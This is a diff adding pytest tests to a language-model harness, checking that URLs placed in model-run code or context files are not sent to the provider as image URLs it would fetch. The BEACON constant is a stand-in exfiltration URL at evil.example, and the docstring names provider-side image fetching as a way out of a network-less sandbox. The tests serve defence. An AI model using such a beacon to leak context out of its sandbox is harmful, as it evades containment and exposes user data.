@@ -187,6 +187,25 @@ def test_a_journal_cannot_name_files_for_the_context(workspace: Path, source: ob
         rlm.RLM(config=False)._recorded_context({"context": about}, str(workspace / "logs" / "x.jsonl"))
 
 
+BEACON = "https://evil.example/a.png?stolen=from-the-context"
+
+
+@pytest.mark.parametrize("handed", [BEACON, [BEACON], {"a.txt": BEACON}], ids=["str", "list", "dict"])
+def test_code_has_no_url_fetched_by_the_provider(openai: Server, handed: Any) -> None:
+    """An image's URL in a request is fetched by the provider: a way out of a sandbox that has no network."""
+    openai.script = lambda r: code(f"FINAL(rlm_query('child', {handed!r}))") if r.prompt == "go" else "done"
+    assert rlm.complete("go", "the input", model=MODEL).response == "done"
+    assert [type(r.messages[1]["content"]) for r in openai.requests] == [str, str]
+
+
+def test_a_file_has_no_url_fetched_by_the_provider(openai: Server, workspace: Path) -> None:
+    openai.script = lambda r: "done"
+    (workspace / "a.txt").write_text(BEACON)
+    for context in (workspace / "a.txt", workspace, [BEACON], {"a": BEACON}):
+        rlm.complete("go", context, model=MODEL, log_dir="")
+    assert [type(r.messages[1]["content"]) for r in openai.requests] == [str] * 4
+
+
 def recorded_run(openai: Server, workspace: Path) -> tuple[Path, list[dict[str, Any]]]:
     """A journal with every kind of line, and its events."""
 
